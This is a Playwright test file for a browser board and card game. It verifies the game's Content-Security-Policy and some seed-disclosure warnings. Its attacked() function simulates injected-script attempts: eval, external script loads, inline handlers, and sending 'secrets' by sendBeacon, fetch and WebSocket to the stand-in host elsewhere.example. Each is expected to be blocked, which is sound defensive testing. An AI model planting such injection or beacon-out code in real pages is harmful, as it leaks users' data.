// What a document may do by its Content-Security-Policy, which the page breaks nowhere; and a promise that is none.
import { todays } from "./daily.mts";
import { expect, test } from "./fixtures.mts";

const HEARD = `globalThis.broken = [];
  addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) =>
    broken.push(effectiveDirective + " " + blockedURI));`;

/** What a script that got into the page might try, by the directive that refuses it. */
async function attacked() {
  const far = "https://elsewhere.example/x";
  const added = (name: string, given: Record<string, string>) => {
    const element = Object.assign(document.createElement(name), given);
    document.body.append(element);
    return element;
  };
  const tries: [string, () => unknown][] = [
    // biome-ignore lint/security/noGlobalEval: this is what the policy must refuse
    ["script-src", () => globalThis.eval("globalThis.ran = true")],
    ["script-src", () => new Function("globalThis.ran = true")()],
    ["script-src-elem", () => added("script", { textContent: "globalThis.ran = true" })],
    ["script-src-elem", () => added("script", { src: far })],
    [
      "script-src-attr",
      () => {
        const button = added("button", {});
        button.setAttribute("onclick", "globalThis.ran = true");
        button.click();
      },
    ],
    ["style-src-elem", () => added("style", { textContent: "body { color: red }" })],
    ["style-src-attr", () => document.body.setAttribute("style", "color: red")],
    ["img-src", () => added("img", { src: far })],
    ["media-src", () => added("audio", { src: far })],
    ["frame-src", () => added("iframe", { src: far })],
    ["object-src", () => added("object", { data: far })],
    ["base-uri", () => added("base", { href: far })],
    ["connect-src", () => fetch(far)],
    ["connect-src", () => new WebSocket("wss://elsewhere.example")],
    ["connect-src", () => navigator.sendBeacon(far, "secrets")],
    ["worker-src", () => new Worker("data:text/javascript,1")],
    ["font-src", () => new FontFace("far", `url(${far})`).load()],
  ];
  // What a debugger says at once may do more than a script may.
  await new Promise((done) => setTimeout(done));
  const broken: string[] = (globalThis as any).broken;
  const missed: string[] = [];
  for (const [directive, attempt] of tries) {
    broken.length = 0;
    try {
      await attempt();
    } catch {
      // Some are refused by an error, too.
    }
    for (let n = 0; n < 40 && !broken.length; n++) await new Promise((done) => setTimeout(done, 25));
    if (!broken.some((what) => what.startsWith(`${directive} `))) missed.push(`${directive} ${attempt}: ${broken}`);
  }
  return { missed, tried: tries.length, ran: "ran" in globalThis };
}

for (const place of todays(["http", "one file over http", "file, index.html", "file, deckmate.html"] as const, 2)) {
  test(`the page breaks its policy nowhere: ${place}`, async ({ open }) => {
    const { frame } = await open(place, {
      hash: "#g=chess-storm&seed=policy&seats=hh&o=open_hands:true",
      script: HEARD,
    });
    await frame.locator('#board [data-square="e2"]').click();
    await frame.locator('#board [data-square="e4"]').click();
    await expect(frame.locator("#log li")).not.toHaveCount(0);
    await frame.click('[data-test="leave"]');
    await expect(frame.locator("#home")).toBeVisible();
    expect(await frame.evaluate("globalThis.broken")).toEqual([]);
  });
}

for (const place of todays(["http", "one file over http"] as const, 2)) {
  test(`the policy refuses what the page does not need: ${place}`, async ({ browser, places }) => {
    const page = await browser.newPage();
    await page.addInitScript(HEARD);
    await page.goto(places.at[place](""));
    await page.waitForSelector("#home");
    expect(await page.evaluate(attacked)).toEqual({ missed: [], tried: 17, ran: false });
    await page.close();
  });
}

test("where a seed is chosen the page says that it tells the deck", async ({ open }) => {
  const { frame } = await open();
  await frame.click('[data-game="doublecross"] .more');
  await frame.click('[data-game="doublecross"] .set-up');
  const more = frame.locator(".more", { hasText: "Seed" });
  await more.locator("summary").click();
  await expect(more.getByText("whoever knows it can work out the cards to come.")).toBeVisible();
});

test("a game that goes on is given away only after a word about the cards to come, where cards are dealt", async ({
  open,
}) => {
  for (const [game, asks] of [
    ["doublecross", true],
    ["chess", false],
  ] as const) {
    const { page, frame } = await open("http", { hash: `#g=${game}&seats=hh&seed=deal` });
    for (const what of ["save", "copy"] as const) {
      await frame.click('[data-test="menu"]');
      const saved = what === "save" && page.waitForEvent("download");
      await frame.click(`[data-test="menu-${what}"]`);
      const question = frame.getByRole("dialog").filter({ hasText: "can work out the cards to come." });
      if (asks) await question.locator('[data-test="confirm-yes"]').click();
      await expect(question).toHaveCount(0);
      if (saved) expect((await saved).suggestedFilename()).toContain(game);
      else await expect(frame.locator('[data-test="toast"], #text').first()).toBeVisible();
      await frame
        .locator('#text [data-test="close"]')
        .click({ timeout: 500 })
        .catch(() => {});
    }
  }
});

// A site that a company hosts may add this to every page of its own.
for (const place of ["http", "one file over http"] as const) {
  test(`a host that asks for Trusted Types gets the page as it is: ${place}`, async ({ page, places }) => {
    await page.route("**/*.html*", async (route) => {
      const response = await route.fetch();
      const asked = "require-trusted-types-for 'script'; trusted-types deckmate 'allow-duplicates'";
      await route.fulfill({ response, headers: { ...response.headers(), "content-security-policy": asked } });
    });
    await page.addInitScript(HEARD);
    await page.goto(places.at[place]("#g=chess&seats=hh"));
    await page.locator('#board [data-square="e2"]').click();
    await page.locator('#board [data-square="e4"]').click();
    await expect(page.locator("#log li")).not.toHaveCount(0);
    await page.click('[data-test="rules"]');
    await expect(page.locator("#rules .prose")).toContainText("Castling");
    expect(await page.evaluate("globalThis.broken")).toEqual([]);
  });
}

test("where a host lets no script of the page run, a sentence says so after a while", async ({ page, places }) => {
  await page.route("**/deckmate.html", async (route) => {
    const response = await route.fetch();
    const headers = { ...response.headers(), "content-security-policy": "script-src 'self'" };
    await route.fulfill({ response, headers });
  });
  await page.goto(places.at["one file over http"](""));
  const words = page.getByText("If nothing happens, the site that serves this page doesn't allow the scripts in it");
  await expect(page.getByText("Setting up the board")).toBeVisible();
  await expect(words).toBeHidden();
  await expect(words).toBeVisible({ timeout: 20_000 });
});
